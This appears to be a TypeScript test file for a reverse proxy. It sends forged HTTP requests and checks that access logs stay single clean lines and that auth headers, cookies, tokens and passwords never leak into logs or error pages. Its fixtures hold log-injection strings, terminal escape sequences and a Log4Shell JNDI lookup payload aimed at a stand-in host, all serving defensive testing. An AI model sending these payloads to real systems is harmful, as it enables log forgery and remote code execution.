/** Forged lines and secrets in the access log and in error pages. What is masked in detail is in test/proxy/hardening.test.ts. */
import assert from 'node:assert/strict';
import {after, describe, test} from 'node:test';
import {HOST} from '#test/attack/requests.ts';
import {FakeUpstream} from '#test/support/fake-upstream.ts';
import {ProxyHarness} from '#test/support/proxy-harness.ts';
import {acme} from '#test/support/snapshots.ts';

const upstream = await FakeUpstream.start({after});
const proxy = await ProxyHarness.start({after}, {customers: [acme([upstream.port])]});

const FORGERIES: readonly (readonly [what: string, bytes: string])[] = [
  ['quotes and braces in User-Agent', `GET / HTTP/1.1\r\n${HOST}user-agent: "}\\n{"status":200,"evil":"1\r\n\r\n`], ['an escape sequence of terminals in Referer', `GET / HTTP/1.1\r\n${HOST}referer: \xc2\x9b31mevil\r\n\r\n`],
  ['a line separator of Unicode', `GET / HTTP/1.1\r\n${HOST}user-agent: \xe2\x80\xa8{"evil":1}\r\n\r\n`], ['a backslash at the end', `GET / HTTP/1.1\r\n${HOST}user-agent: evil\\\r\n\r\n`],
  ['a line end in User-Agent', `GET / HTTP/1.1\r\n${HOST}user-agent: a\n{"evil":1}\r\n\r\n`], ['quotes in the target', `GET /"},{"evil":" HTTP/1.1\r\n${HOST}\r\n`], ['quotes in the host', 'GET / HTTP/1.1\r\nhost: a"evil\r\n\r\n'],
  ['a line end in the method', `G\nET / HTTP/1.1\r\n${HOST}\r\n`], ['a request id', `GET / HTTP/1.1\r\n${HOST}x-request-id: "evil\r\n\r\n`], ['a look-up (Log4Shell, CVE-2021-44228)', `GET / HTTP/1.1\r\n${HOST}user-agent: \${jndi:ldap://evil}\r\n\r\n`],
];

describe('a request is one line, and its fields are those that Torwart writes', () => {
  for (const [what, bytes] of FORGERIES) {
    test(what, async (context) => {
      await proxy.forgetLog();
      const before = proxy.readLogText().length;
      const client = await proxy.connect(context);
      client.send(bytes);
      await client.response();
      const line = await proxy.nextLogLine();
      const text = proxy.readLogText().slice(before);
      assert.match(text, /^[ -~]*\n$/);
      assert.ok(!Object.keys(line).includes('evil') && line['msg'] === 'access');
    });
  }
});

describe('secrets are in no line and no answer', () => {
  for (const [what, bytes] of [
    ['Authorization', `GET / HTTP/1.1\r\n${HOST}authorization: Bearer s3cret\r\n\r\n`], ['Cookie', `GET / HTTP/1.1\r\n${HOST}cookie: sid=s3cret\r\n\r\n`], ['a token in the query', `GET /?access_token=s3cret HTTP/1.1\r\n${HOST}\r\n`],
    ['a token of a request that is refused', 'GET /?token=s3cret HTTP/1.1\r\nhost: unknown.test\r\n\r\n'], ['a password in an absolute target', `GET http://u:s3cret@acme.test/ HTTP/1.1\r\n${HOST}\r\n`],
    ['a body', `POST / HTTP/1.1\r\n${HOST}content-length: 15\r\n\r\npassword=s3cret`], ['a field that is invalid', `GET / HTTP/1.1\r\n${HOST}x a: s3cret\r\n\r\n`], ['a Host that is invalid', 'GET / HTTP/1.1\r\nhost: u:s3cret@acme.test\r\n\r\n'],
  ] as const) {
    test(what, async (context) => {
      await proxy.forgetLog();
      const client = await proxy.connect(context);
      client.send(bytes);
      assert.ok(!(await client.response()).raw.includes('s3cret'));
      await proxy.nextLogLine();
      assert.ok(!proxy.readLogText().includes('s3cret'));
      assert.deepEqual(proxy.reports, []);
    });
  }
});
